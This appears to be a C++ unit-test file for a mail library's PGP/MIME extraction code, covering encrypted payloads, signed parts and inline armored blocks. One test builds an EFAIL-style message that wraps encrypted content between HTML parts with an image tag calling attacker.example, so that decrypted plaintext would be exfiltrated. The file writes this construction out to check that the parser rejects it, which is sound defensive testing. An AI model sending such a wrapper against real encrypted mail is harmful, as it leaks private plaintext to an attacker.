// Reading ciphertext, signed entities and inline blocks; the EFAIL nesting case.
#include "mime/extract.hpp"

#include <gtest/gtest.h>

#include <functional>
#include <string>

#include "common/error.hpp"
#include "fixtures.hpp"
#include "mime/text.hpp"

namespace sealpost::mime {

namespace {

std::string crlf(std::string_view text) {
    return text::to_crlf(text);
}

// A part's content ends before the CRLF that belongs to the next boundary (RFC 2046 §5.1.1).
std::string as_part_content(std::string_view text) {
    std::string content = crlf(text);
    return content.substr(0, content.size() - 2);
}

ErrorKind error_kind(const std::function<void()>& action) {
    try {
        action();
    } catch (const Error& error) {
        return error.kind();
    }
    ADD_FAILURE() << "expected an error";
    return ErrorKind::Internal;
}

}  // namespace

TEST(EncryptedPayload, ReturnsTheArmoredCiphertextOfTopLevelPgpMime) {
    Message message = parse(fixtures::with_envelope(fixtures::pgp_mime_encrypted()));
    auto payload = encrypted_payload(message);
    ASSERT_TRUE(payload.has_value());
    EXPECT_EQ(*payload, crlf(fixtures::pgp_message)) << "the fixture ends in an empty line";
}

TEST(EncryptedPayload, UndoesTheTransferEncoding) {
    // base64 of fixtures::pgp_message with CRLF line ends
    constexpr std::string_view base64 =
        "LS0tLS1CRUdJTiBQR1AgTUVTU0FHRS0tLS0tDQoNCmhGNER4UjNZYTJQaFRrRVNBUWRBeDBRdjFz\n"
        "QTNnNG1aOVExbzBkRmFrZUNpcGhlcnRleHRPbmx5Rm9yVGVzdHMNCj1BYkNkDQotLS0tLUVORCBQ\n"
        "R1AgTUVTU0FHRS0tLS0tDQo=\n";
    std::string raw = fixtures::pgp_mime_encrypted();
    raw.replace(raw.find("-----BEGIN PGP MESSAGE"), fixtures::pgp_message.size(), base64);
    raw.insert(raw.find("Content-Disposition: inline; filename=\"encrypted.asc\""),
               "Content-Transfer-Encoding: base64\n");
    EXPECT_EQ(encrypted_payload(parse(fixtures::with_envelope(raw))), crlf(fixtures::pgp_message));
}

TEST(EncryptedPayload, NothingForPlainOrSignedMessages) {
    EXPECT_FALSE(encrypted_payload(parse(fixtures::plain_text())).has_value());
    EXPECT_FALSE(encrypted_payload(parse(fixtures::pgp_mime_signed())).has_value());
}

// EFAIL (Poddebniak et al., 2018): an attacker wraps a captured multipart/encrypted in a
// multipart/mixed between HTML parts that exfiltrate whatever plaintext lands between them.
TEST(EncryptedPayload, NeverFromAPartNestedInAnAttackersMultipart) {
    std::string raw = fixtures::with_envelope(
        "Content-Type: multipart/mixed; boundary=\"outer\"\n\n"
        "--outer\nContent-Type: text/html\n\n<img src=\"http://attacker.example/\n"
        "--outer\n" +
        fixtures::pgp_mime_encrypted("inner") +
        "\n--outer\nContent-Type: text/html\n\n\">\n--outer--\n");
    Message message = parse(raw);
    EXPECT_FALSE(encrypted_payload(message).has_value());
    EXPECT_TRUE(inline_blocks(message).empty());
    EXPECT_EQ(message.serialize(), crlf(raw)) << "passed through unchanged";
}

TEST(EncryptedPayload, MalformedTopLevelPgpMimeIsAnError) {
    std::string one_part = fixtures::with_envelope(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\";"
        " boundary=b\n\n--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--b--\n");
    EXPECT_EQ(error_kind([&] { encrypted_payload(parse(one_part)); }), ErrorKind::BadInput);

    std::string wrong_type = fixtures::pgp_mime_encrypted();
    wrong_type.replace(wrong_type.find("application/octet-stream"), 24, "text/html");
    EXPECT_EQ(error_kind([&] { encrypted_payload(parse(wrong_type)); }), ErrorKind::BadInput);
}

TEST(SignedParts, GivesTheFirstPartAsTransmittedAndTheSignature) {
    auto parts = signed_parts(parse(fixtures::pgp_mime_signed()));
    ASSERT_TRUE(parts.has_value());
    EXPECT_EQ(parts->entity,
              "Content-Type: text/plain; charset=us-ascii\r\n"
              "Content-Disposition: inline\r\n"
              "\r\n"
              "Signed text.\r\n");
    EXPECT_EQ(parts->signature, as_part_content(fixtures::pgp_signature));
    EXPECT_EQ(parts->micalg, "pgp-sha256");
}

TEST(SignedParts, KeepsTheEntityBytesEvenWhereGMimeWouldRewriteThem) {
    std::string raw = fixtures::pgp_mime_signed();
    std::string odd = "Content-Type:   text/plain;\n\t  charset=\"us-ascii\"  \nX-Odd:x\n\n";
    raw.replace(raw.find("Content-Type: text/plain"), 72, odd);
    raw.replace(raw.find("--sig-b0undary\nContent-Type: app"), 14, "--sig-b0undary  \t");
    auto parts = signed_parts(parse(raw));
    ASSERT_TRUE(parts.has_value());
    EXPECT_TRUE(parts->entity.starts_with(crlf(odd))) << parts->entity;
}

TEST(SignedParts, NothingUnlessTheTopLevelIsPgpMimeSigned) {
    EXPECT_FALSE(signed_parts(parse(fixtures::plain_text())).has_value());
    std::string nested = fixtures::with_envelope(
        "Content-Type: multipart/mixed; boundary=list\n\n--list\n" +
        fixtures::pgp_mime_signed().substr(fixtures::envelope_headers.size()) +
        "\n--list\nContent-Type: text/plain\n\nList footer\n--list--\n");
    EXPECT_FALSE(signed_parts(parse(nested)).has_value());
}

TEST(SignedParts, UnterminatedFirstPartIsAnError) {
    std::string raw = fixtures::with_envelope(
        "Content-Type: multipart/signed; protocol=\"application/pgp-signature\";"
        " boundary=b\n\n--b\nContent-Type: text/plain\n\nx\n");
    EXPECT_EQ(error_kind([&] { signed_parts(parse(raw)); }), ErrorKind::BadInput);
}

TEST(InlineBlocks, WholeBodyOnlyWhenTheBlockIsAllThereIs) {
    auto alone =
        inline_blocks(parse(fixtures::plain_text("\n" + std::string(fixtures::pgp_message))));
    ASSERT_EQ(alone.size(), 1u);
    EXPECT_EQ(alone[0].kind, Kind::InlineEncrypted);
    EXPECT_TRUE(alone[0].whole_body);
    EXPECT_TRUE(alone[0].armored.starts_with("-----BEGIN PGP MESSAGE-----\r\n"));
    EXPECT_TRUE(alone[0].armored.ends_with("-----END PGP MESSAGE-----"));

    auto mixed = inline_blocks(
        parse(fixtures::plain_text("Click here!\n" + std::string(fixtures::pgp_message))));
    ASSERT_EQ(mixed.size(), 1u);
    EXPECT_FALSE(mixed[0].whole_body);
}

TEST(InlineBlocks, CleartextSignatureAndQuotedPrintableText) {
    std::string body =
        "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nGr=C3=BC=C3=9Fe\n"
        "-----BEGIN PGP SIGNATURE-----\n\niHUEAR=3D\n-----END PGP SIGNATURE-----\n";
    std::string raw = fixtures::plain_text(body);
    raw.replace(raw.find("8bit"), 4, "quoted-printable");
    auto blocks = inline_blocks(parse(raw));
    ASSERT_EQ(blocks.size(), 1u);
    EXPECT_EQ(blocks[0].kind, Kind::InlineSigned);
    EXPECT_NE(blocks[0].armored.find("Grüße\r\n"), std::string::npos);
    EXPECT_NE(blocks[0].armored.find("iHUEAR=\r\n"), std::string::npos);
}

TEST(InlineBlocks, UnterminatedBlockIsIgnored) {
    EXPECT_TRUE(
        inline_blocks(parse(fixtures::plain_text("-----BEGIN PGP MESSAGE-----\nabc\n"))).empty());
}

}  // namespace sealpost::mime
